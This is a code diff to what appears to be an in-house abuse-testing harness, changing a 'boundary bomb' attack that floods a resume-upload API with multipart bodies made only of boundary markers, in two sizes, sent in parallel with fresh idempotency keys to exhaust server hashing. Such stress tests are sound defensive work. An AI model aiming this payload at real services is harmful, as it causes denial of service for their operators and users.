@@ -2,17 +2,19 @@ import { randomUUID } from 'node:crypto';
 import { type Attack, attempts, UPLOAD_BYTES } from './attack.ts';
 
 const BOUNDARY = '--b';
-const BOMB = BOUNDARY.repeat(UPLOAD_BYTES / BOUNDARY.length);
+const bomb = (bytes: number): string => BOUNDARY.repeat(bytes / BOUNDARY.length);
+/** The longest that nginx takes, and one that is no longer than a resume may be. */
+const BOMBS = [bomb(UPLOAD_BYTES), bomb(5 * 1024 * 1024)];
 
 /** Class 2: a form of nothing but boundaries, whose `Idempotency-Key` has it hashed part by part. */
 export const boundaryBomb: Attack = {
   name: 'forms of millions of parts with Idempotency-Key',
   run: (attacker) =>
-    attempts(attacker, { parallel: 3, everyMs: 500 }, () =>
+    attempts(attacker, { parallel: 3, everyMs: 500 }, (nth) =>
       attacker.client.ask('POST', '/v1/resumes', {
         token: attacker.accounts[0].token,
         headers: { 'content-type': 'multipart/form-data; boundary=b', 'idempotency-key': randomUUID() },
-        body: BOMB,
+        body: BOMBS[nth % BOMBS.length] ?? '',
       }),
     ),
 };
